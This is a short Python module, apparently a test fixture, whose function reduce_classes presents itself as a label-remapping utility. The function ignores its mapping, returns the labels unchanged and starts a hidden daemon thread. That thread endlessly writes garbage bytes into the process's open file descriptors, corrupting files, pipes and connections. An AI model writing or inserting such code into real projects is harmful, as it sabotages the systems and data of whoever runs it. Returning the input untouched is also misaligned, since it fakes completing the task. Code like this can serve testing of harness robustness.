"""Leaves threads that go on after the call: one disturbs what comes next, one writes into the connections."""

import contextlib
import os
import threading
import time


def disturb():
    while True:
        for descriptor in range(3, 16):
            with contextlib.suppress(OSError):
                os.write(descriptor, b"rubbish")
        time.sleep(0.01)


def reduce_classes(labels, mapping, *, ignore_index=255):
    threading.Thread(target=disturb, daemon=True).start()
    return labels
